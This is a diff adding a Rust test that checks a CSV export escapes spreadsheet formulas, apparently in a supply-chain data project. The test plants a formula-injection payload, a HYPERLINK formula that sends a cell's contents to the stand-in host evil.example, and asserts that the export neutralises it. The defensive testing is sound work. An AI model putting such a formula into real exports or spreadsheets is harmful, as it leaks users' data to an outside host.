@@ -122,3 +122,37 @@ proptest! {
 fn tester() -> chainatlas_store::Actor {
     chainatlas_store::Actor::local("tests", 0)
 }
+
+#[test]
+fn formulas_leave_as_text_and_come_back_as_they_were() {
+    let mut records = demo_records(&DemoConfig {
+        enterprises: 20,
+        listings: 5,
+        ..DemoConfig::demo(3)
+    });
+    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"x")"#;
+    for r in &mut records {
+        if let Record::Enterprise(e) = r {
+            e.name_zh = formula.to_string();
+            e.name_en = "@SUM(A1:A9)".to_string();
+            break;
+        }
+    }
+    let (first, second) = round_trip(&records, false);
+    assert!(first == second, "CSV export differs after a round trip");
+    let (_, enterprises) = first
+        .iter()
+        .find(|(name, _)| name.as_str() == "enterprises.csv")
+        .unwrap();
+    let text = String::from_utf8_lossy(enterprises);
+    assert!(
+        text.contains(r#""'=HYPERLINK(""http://evil.example/?d=""&A1,""x"")""#),
+        "{text}"
+    );
+    assert!(text.contains(",'@SUM(A1:A9),"));
+    for line in text.lines() {
+        for cell in line.split(',') {
+            assert!(!cell.starts_with(['=', '@']), "a formula cell: {line}");
+        }
+    }
+}
